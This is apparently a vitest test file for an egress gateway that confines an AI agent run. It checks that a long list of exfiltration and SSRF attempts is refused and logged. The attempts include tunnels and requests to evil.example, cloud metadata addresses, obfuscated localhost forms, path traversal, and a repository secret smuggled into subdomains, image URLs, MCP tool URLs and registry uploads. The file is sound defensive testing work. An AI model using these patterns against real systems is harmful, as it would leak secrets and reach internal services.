import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { type IncomingMessage, createServer, request } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Gateway, type GatewayRun, openGateway } from './index.ts';
import { type Asked, ask } from './testing/ask.ts';

/**
 * What a program would try that wants to carry something out, with a run that may use one model, one registry, one tunnel and one host. Every name
 * leads to a server of ours that notes whoever comes.
 */
const came: string[] = [];
const outside = createServer((from, to) => {
  from.resume();
  came.push(`${from.method} ${from.headers.host}${from.url} ${[from.headers['x-secret']].flat().join()}`);
  to.writeHead(200, { 'content-type': 'application/json' }).end(
    '{"object":"chat.completion","choices":[{"finish_reason":"stop","message":{}}],"usage":{"prompt_tokens":1,"completion_tokens":1}}',
  );
});
let port: number;
let gateway: Gateway;
let run: GatewayRun;
let directory: string;

beforeAll(async () => {
  outside.listen(0, '127.0.0.1');
  await once(outside, 'listening');
  ({ port } = outside.address() as AddressInfo);
  directory = await mkdtemp(join(tmpdir(), 'devteam-gw-'));
  gateway = await openGateway({ resolve: () => Promise.resolve([{ address: '127.0.0.1', family: 4 }]) });
  run = await gateway.openRun({
    id: 'run-1',
    socketDirectory: directory,
    models: { 'gpt-5': { protocol: 'openai', baseUrl: `http://127.0.0.1:${port}/v1`, key: () => 'sk-real-0123456789abcdef' } },
    registries: [{ name: 'npm', bases: { registry: `http://127.0.0.1:${port}` } }],
    egress: [
      { through: 'tunnel', host: 'allowed.example', port, addresses: ['127.0.0.1'] },
      { through: 'http', host: 'api.example', port, paths: ['/v1/'], addresses: ['127.0.0.1'] },
    ],
    deadlineAtMs: Date.now() + 60_000,
  });
});
afterAll(async () => {
  await gateway.close();
  outside.closeAllConnections();
  outside.close();
  await rm(directory, { recursive: true });
});

const secret = 'the-secret-of-the-repository';
const chat = (extra: object): Partial<Asked> => ({ path: '/openai/v1/chat/completions', body: { model: 'gpt-5', messages: [], ...extra } });
const image = (url: string) => [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }];

async function tunnelStatus(authority: string): Promise<number> {
  const sent = request({
    socketPath: run.socketPath,
    method: 'CONNECT',
    path: authority,
    headers: { 'proxy-authorization': `Bearer ${run.key}` },
  });
  sent.end();
  const [answer, socket] = (await once(sent, 'connect')) as [IncomingMessage, Socket];
  socket.destroy();
  return answer.statusCode ?? 0;
}

describe('none of these gets out, and each is listed', () => {
  test.each([
    'evil.example:443',
    'evil.example:53',
    '203.0.113.9:443',
    '8.8.8.8:53',
    '[2001:4860:4860::8888]:53',
    '169.254.169.254:80',
    '127.0.0.1:22',
    '[::1]:80',
    'localhost:5432',
    '0:80',
    '2130706433:80',
    '0x7f000001:80',
    '017700000001:80',
    'allowed.example:22',
    'allowed.example:443',
    `sub.allowed.example:`.concat('443'),
    'allowed.example.evil.example:443',
    'metadata.google.internal:80',
    `${secret}.evil.example:443`,
  ])('a tunnel to %s', async (authority) => {
    const before = [came.length, run.refusals().length];
    expect(await tunnelStatus(authority)).toBe(403);
    expect([came.length, run.refusals().length - 1]).toEqual(before);
  });

  test.each([
    ['GET', 'http://evil.example/?q=', {}],
    ['POST', 'http://evil.example/', { body: secret }],
    ['GET', 'http://169.254.169.254/latest/meta-data/', {}],
    ['GET', 'http://[fd00:ec2::254]/latest', {}],
    ['GET', 'https://api.example/v1/x', {}],
    ['GET', 'ftp://api.example/v1/x', {}],
    ['GET', 'http://api.example:22/v1/', {}],
    ['GET', 'http://user:pass@evil.example/v1/', {}],
    ['GET', 'http://api.example@evil.example/v1/', {}],
    ['OPTIONS', '*', {}],
    ['GET', '/v1/x', { headers: { host: 'evil.example' } }],
    ['GET', '//evil.example/v1/', {}],
    ['GET', '/\\evil.example/', {}],
    ['PUT', '/npm/package', { body: secret }],
    ['GET', `/npm/package?${secret}`, {}],
    ['GET', '/npm/-/v1/search', {}],
    ['GET', `/npm/${secret.repeat(10)}`, {}],
    ['GET', '/npm/../v1/files', {}],
    ['GET', '/npm/@a%2f..%2f..%2fx', {}],
    ['POST', '/pypi/legacy/', { body: secret }],
    ['GET', '/pypi/simple/package/', {}],
    ['GET', '/rubygems/info/rails', {}],
    ['POST', '/openai/v1/files', { body: secret }],
    ['POST', '/openai/v1/embeddings', { body: { model: 'gpt-5', input: secret } }],
    ['POST', '/openai/v1/fine_tuning/jobs', { body: {} }],
    ['POST', '/ollama/api/push', { body: { model: 'evil.example/x' } }],
    ['POST', '/ollama/api/create', { body: { model: 'x', from: 'evil.example/x' } }],
    ['POST', '/anthropic/v1/messages', { body: { model: 'gpt-5', messages: [] } }],
    ['POST', '/anthropic/v1/files', { body: secret }],
    ['GET', '/openai/v1/responses', { headers: { connection: 'Upgrade', upgrade: 'websocket' } }],
    ['POST', '', chat({ model: 'somebody-elses' })],
    ['POST', '', chat({ messages: image(`https://evil.example/?q=${secret}`) })],
    ['POST', '', chat({ messages: image('HTTP://169.254.169.254/') })],
    [
      'POST',
      '',
      {
        path: '/openai/v1/responses',
        body: { model: 'gpt-5', input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://evil.example/x' }] }] },
      },
    ],
    ['POST', '', { path: '/openai/v1/responses', body: { model: 'gpt-5', input: 'x', background: true } }],
  ] as [string, string, Partial<Asked>][])('%s %s %j', async (method, path, extra) => {
    const before = [came.length, run.refusals().length];
    const answer = await ask(run.socketPath, { method, path, key: run.key, ...extra });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect([came.length, run.refusals().length - 1]).toEqual(before);
  });

  test('a request that does not show the key', async () => {
    const before = came.length;
    for (const key of [null, '', 'dtr_', run.key.slice(0, -1), `${run.key}0`, run.key.toUpperCase()])
      expect((await ask(run.socketPath, { ...chat({}), path: '/openai/v1/models', method: 'GET', key })).status).toBe(401);
    expect(came.length).toBe(before);
  });

  test('headers and tools that would carry or fetch something do not come along', async () => {
    const tools = [
      { type: 'web_search' },
      { type: 'mcp', server_url: `https://evil.example/${secret}` },
      { type: 'code_interpreter' },
      { type: 'function', name: 'own' },
    ];
    const headers = { 'x-secret': secret, cookie: secret, forwarded: secret, referer: secret };
    const answer = await ask(run.socketPath, {
      path: '/openai/v1/chat/completions',
      key: run.key,
      headers,
      body: { model: 'gpt-5', messages: [], tools, web_search_options: {} },
    });
    expect(answer.status).toBe(200);
    expect(came.at(-1)).toBe(`POST 127.0.0.1:${port}/v1/chat/completions `);
  });
});

test('what is allowed does get out', async () => {
  expect(await tunnelStatus(`allowed.example:${port}`)).toBe(200);
  expect((await ask(run.socketPath, { method: 'GET', path: `http://api.example:${port}/v1/x`, key: run.key })).status).toBe(200);
  expect((await ask(run.socketPath, { method: 'GET', path: '/npm/package', key: run.key })).status).toBe(200);
  expect((await ask(run.socketPath, { ...chat({}), path: '/openai/v1/chat/completions', key: run.key })).status).toBe(200);
});
